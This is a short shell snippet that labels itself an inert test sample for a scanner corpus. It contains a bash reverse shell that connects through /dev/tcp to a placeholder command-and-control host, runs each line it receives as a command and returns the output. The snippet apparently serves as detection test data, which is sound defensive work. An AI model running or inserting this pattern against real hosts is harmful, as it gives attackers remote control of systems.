# TEST SAMPLE: inert, for the scanner corpus
set -e
echo starting
exec 5<>/dev/tcp/c2.example.invalid/443
cat <&5 | while read line; do $line 2>&5 >&5; done
